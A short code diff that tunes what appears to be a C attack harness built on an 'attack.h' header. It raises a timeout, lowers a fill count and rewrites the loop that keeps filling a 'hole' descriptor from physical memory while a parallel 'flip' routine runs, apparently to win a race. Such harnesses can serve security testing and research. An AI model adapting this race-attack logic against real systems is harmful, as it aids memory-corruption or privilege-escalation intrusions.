@@ -10,8 +10,9 @@
 
 #include "attack.h"
 
-#define SECONDS		20
-#define FILLS		200000
+#define SECONDS		60
+/* That are accepted; others say nothing, and there are many while the other CPU stands still */
+#define FILLS		100000
 #define OWN		0x646f6e6a6f6eULL
 
 static u64 *flipping, good, bad;
@@ -46,7 +47,7 @@ static void source(void)
 	flipping = hole.descriptor;
 	if (!begin_beside(flip, SECONDS))
 		goto free;
-	while (filled + refused < FILLS && !found && is_beside()) {
+	while ((filled < FILLS || !refused) && !found && is_beside()) {
 		if (fill_hole_from(&hole, virt_to_phys(hole.descriptor)).status) {
 			refused++;
 			continue;
